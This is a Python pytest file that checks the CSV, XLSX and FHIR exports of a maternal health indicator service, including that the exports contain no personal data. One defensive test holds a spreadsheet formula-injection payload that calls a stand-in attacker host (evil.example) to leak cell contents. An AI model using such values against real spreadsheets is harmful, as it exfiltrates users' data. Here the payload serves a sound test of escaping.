"""Exports: the XLSX opens with openpyxl and holds the right numbers, the CSV is UTF-8 with a
BOM and Chinese headers, each MeasureReport validates as FHIR R4(B), and no personal data gets
into any of them."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from fhir.resources.R4B.measurereport import MeasureReport

from mch_service.indicators.calculations import compute_all
from mch_service.indicators.catalogue import CALCULATED, CATALOGUE_VERSION
from mch_service.indicators.exports import (
    CSV_HEADERS,
    iter_csv,
    iter_measure_reports,
    measure_report,
    write_csv,
    write_xlsx,
)
from mch_service.indicators.settings import IndicatorSettings
from mch_service.indicators.values import IndicatorValue, iter_values
from tests.indicators.tables import death, make_facts, pregnancy

BASE = "http://mch-service.local/fhir"
SETTINGS = IndicatorSettings(caesarean_basis="women")


def _results() -> list[IndicatorValue]:
    # March 2025: 10 women in S1 at H1, one of whom lacks the postpartum visit, so systematic
    # management is 9 / 10 = 90 % (met); HIV tests 9 / 10 = 90 % (not met, target ≥ 98).
    rows = [
        pregnancy(pregnancy_id=f"SECRET-PREG-{i}", woman_id=f"SECRET-WOMAN-{i}") for i in range(9)
    ]
    rows.append(
        pregnancy(
            postpartum_visit_28d=False,
            hiv_tested=False,
            hiv_tested_in_pregnancy=False,
            hiv_tested_early=False,
        )
    )
    rows.append(pregnancy(street="S2", delivery_institution="H2", delivery_date=date(2025, 4, 2)))
    deaths = [death(rows[0], date(2025, 3, 20))]
    table = compute_all(make_facts(rows, deaths=deaths), ["2025-03", "2025-04", "2025"], SETTINGS)
    return list(iter_values(table))


def _find(
    values: list[IndicatorValue], indicator_id: str, period: str, area: str, institution: str
) -> IndicatorValue:
    [v] = [
        v
        for v in values
        if (v.id, v.period, v.area, v.institution) == (indicator_id, period, area, institution)
    ]
    return v


def test_xlsx_holds_the_numbers_status_colours_and_notes(tmp_path: Path) -> None:
    values = _results()
    path = tmp_path / "indicators.xlsx"
    assert write_xlsx(iter(values), path) == len(values)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["全区", "按镇街", "按机构", "说明"]

    district = book["全区"]
    header = [c.value for c in district[1]]
    assert header[:4] == ["指标编号", "指标名称", "Indicator", "统计期"]
    rows = {(r[0], r[3]): r for r in district.iter_rows(min_row=2, values_only=True)}
    # 3 periods × every calculated indicator on the district sheet.
    assert len(rows) == 3 * len(CALCULATED)
    col = {name: i for i, name in enumerate(header)}
    smr = rows[("systematic_management_rate", "2025-03")]
    # every cell is text: counts, values and dates as the CSV writes them
    assert (smr[col["分子"]], smr[col["分母"]], smr[col["数值"]]) == ("9", "10", "90.0")
    assert (smr[col["目标"]], smr[col["达标情况"]]) == ("≥90%", "达标")
    assert (smr[col["开始日期"]], smr[col["结束日期"]]) == ("2025-03-01", "2025-03-31")
    hiv = rows[("hiv_test_rate", "2025-03")]
    assert (hiv[col["分子"]], hiv[col["分母"]], hiv[col["达标情况"]]) == ("9", "10", "未达标")
    # 10 women: small numbers (below 20), marked; not provisional (the values are computed, not
    # read from the service, which knows today)
    assert (smr[col["小数字"]], smr[col["暂定"]]) == ("是", "")
    # a month shows the death and the live births; the ratio is per year (1 / 11 × 100,000)
    mmr = rows[("maternal_mortality_ratio", "2025-03")]
    assert (mmr[col["分子"]], mmr[col["分母"]], mmr[col["数值"]]) == ("1", "10", None)
    assert mmr[col["达标情况"]].startswith("仅报告例数")
    year = rows[("maternal_mortality_ratio", "2025")]
    assert (year[col["分子"]], year[col["分母"]]) == ("1", "11")
    assert float(year[col["数值"]]) == pytest.approx(100_000 / 11)
    treatment = rows[("hiv_treatment_rate", "2025-03")]
    assert (treatment[col["数值"]], treatment[col["达标情况"]]) == (None, "无数据")

    # Status colours: green met, red not met, grey no data.
    fills = {}
    for cells in district.iter_rows(min_row=2):
        status_cell = cells[col["达标情况"]]
        fills[status_cell.value] = status_cell.fill.fgColor.rgb
    assert fills["达标"].endswith("C6EFCE")
    assert fills["未达标"].endswith("FFC7CE")
    assert fills["无数据"].endswith("D9D9D9")
    # Values are text cells holding the unrounded value (no number format to round them).
    value_cells = [cells[col["数值"]] for cells in district.iter_rows(min_row=2)]
    assert {c.data_type for c in value_cells if c.value is not None} == {"s"}

    streets = book["按镇街"]
    street_header = [c.value for c in streets[1]]
    assert "镇街" in street_header
    s = street_header.index("镇街")
    s2 = [
        r
        for r in streets.iter_rows(min_row=2, values_only=True)
        if r[0] == "facility_delivery_rate" and r[3] == "2025-04" and r[s] == "S2"
    ]
    assert [(r[street_header.index("分子")], r[street_header.index("分母")]) for r in s2] == [
        ("1", "1")
    ]
    institutions = book["按机构"]
    assert "机构" in [c.value for c in institutions[1]]
    assert {r[6] for r in institutions.iter_rows(min_row=2, values_only=True)} == {"H1", "H2"}

    notes = "\n".join(
        " ".join(str(c) for c in r if c is not None)
        for r in book["说明"].iter_rows(values_only=True)
    )
    assert CATALOGUE_VERSION in notes
    assert 'caesarean_basis (MCH_INDICATOR_CAESAREAN_BASIS) "women"' in notes


def test_xlsx_streams_to_a_binary_file() -> None:
    buffer = io.BytesIO()
    write_xlsx(iter(_results()), buffer)
    assert buffer.getvalue()[:2] == b"PK"
    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["全区"].max_row > 1


def test_csv_is_utf8_with_bom_and_chinese_headers() -> None:
    values = _results()
    lines = iter_csv(iter(values))
    first = next(lines)
    # every text field quoted (OWASP: a cell cannot be split by a locale's separator)
    assert first.startswith('\ufeff"指标编号","指标名称"')
    text = first + "".join(lines)
    data = text.encode("utf-8")
    assert data[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_HEADERS
    assert len(rows) == 1 + len(values)
    h = {name: i for i, name in enumerate(rows[0])}
    smr = next(
        r
        for r in rows[1:]
        if r[h["指标编号"]] == "systematic_management_rate"
        and r[h["统计期"]] == "2025-03"
        and r[h["地区"]] == "district"
        and r[h["机构"]] == "all"
    )
    assert (smr[h["分子"]], smr[h["分母"]], smr[h["数值"]]) == ("9", "10", "90.00")
    assert smr[h["数值（未修约）"]] == "90.0"
    assert (smr[h["地区名称"]], smr[h["机构名称"]]) == ("全区", "全部机构")
    assert smr[h["达标情况"]] == "达标"
    assert "剖宫产率口径：按产妇数" in smr[h["设置"]]  # the settings in Chinese
    out = io.StringIO(newline="")
    assert write_csv(iter(values), out) == len(values)


def test_measure_reports_validate_as_fhir_r4() -> None:
    values = _results()
    reports = list(iter_measure_reports(values, canonical_base=BASE))
    assert len(reports) == len(values)
    for report in reports:
        MeasureReport.model_validate(report)

    smr = measure_report(
        _find(values, "systematic_management_rate", "2025-03", "district", "all"),
        canonical_base=BASE,
        generated=datetime(2025, 4, 1, 8, 0, tzinfo=UTC),
    )
    resource = MeasureReport.model_validate(smr)
    assert (resource.type, resource.status) == ("summary", "complete")
    # a FHIR id has no '_': the Measure is read at /fhir/Measure/systematic-management-rate
    assert resource.measure == f"{BASE}/Measure/systematic-management-rate|{CATALOGUE_VERSION}"
    assert resource.group is not None
    group = resource.group[0]
    assert group.population is not None
    populations = {
        p.code.coding[0].code: p.count for p in group.population if p.code and p.code.coding
    }
    assert populations == {"numerator": 9, "denominator": 10}
    score = group.measureScore
    assert score is not None
    assert score.value is not None
    assert float(score.value) == 90.0
    assert score.code == "%"
    assert smr["period"] == {"start": "2025-03-01", "end": "2025-03-31"}
    assert "subject" not in smr
    assert "reporter" not in smr
    assert smr["improvementNotation"]["coding"][0]["code"] == "increase"
    small = {e["url"].rsplit("/", 1)[1]: e for e in smr["extension"]}["small-numbers"]
    assert small["valueBoolean"] is True  # 10 women
    # figures read while records may still arrive are "pending", not "complete"
    pending = measure_report(
        dataclasses.replace(
            _find(values, "systematic_management_rate", "2025-03", "district", "all"),
            provisional=True,
        ),
        canonical_base=BASE,
    )
    assert pending["status"] == "pending"

    street = measure_report(
        _find(values, "maternal_mortality_ratio", "2025", "S1", "all"), canonical_base=BASE
    )
    assert street["subject"]["identifier"]["value"] == "S1"
    assert street["group"][0]["measureScore"]["code"] == "/10*5"
    assert street["improvementNotation"]["coding"][0]["code"] == "decrease"
    no_data = measure_report(
        _find(values, "hiv_treatment_rate", "2025-03", "district", "H1"), canonical_base=BASE
    )
    MeasureReport.model_validate(no_data)
    assert no_data["reporter"]["identifier"]["value"] == "H1"
    assert "measureScore" not in no_data["group"][0]
    assert [p["count"] for p in no_data["group"][0]["population"]] == [0, 0]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "fhir"])
def test_no_personal_data_in_exports(kind: str, tmp_path: Path) -> None:
    values = _results()
    if kind == "csv":
        data = "".join(iter_csv(values)).encode()
    elif kind == "xlsx":
        write_xlsx(values, tmp_path / "x.xlsx")
        book = openpyxl.load_workbook(tmp_path / "x.xlsx")
        data = "\n".join(
            str(c) for ws in book.worksheets for r in ws.iter_rows(values_only=True) for c in r
        ).encode()
    else:
        data = json.dumps(list(iter_measure_reports(values, canonical_base=BASE))).encode()
    assert b"SECRET" not in data
    assert len(data) > 1000


def test_csv_and_xlsx_cells_cannot_become_formulas(tmp_path: Path) -> None:
    """Street codes and institution ids come from outside; whatever they hold, no exported
    cell starts like a formula (CSV) or is one (XLSX)."""
    import dataclasses

    hostile = ['=HYPERLINK("http://evil.example/?"&D2,"x")', "+1", "-1+2", "@A1", "\t=1"]
    values = [
        dataclasses.replace(v, area=hostile[i % len(hostile)], institution=hostile[-1 - i % 5])
        for i, v in enumerate(_results()[:20])
    ]
    text = "".join(iter_csv(iter(values)))
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + hostile[0] in cells
    write_xlsx(iter(values), tmp_path / "h.xlsx")
    book = openpyxl.load_workbook(tmp_path / "h.xlsx")
    cells_x = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells_x if c.data_type == "f"] == []
    assert hostile[0] in [c.value for c in cells_x]
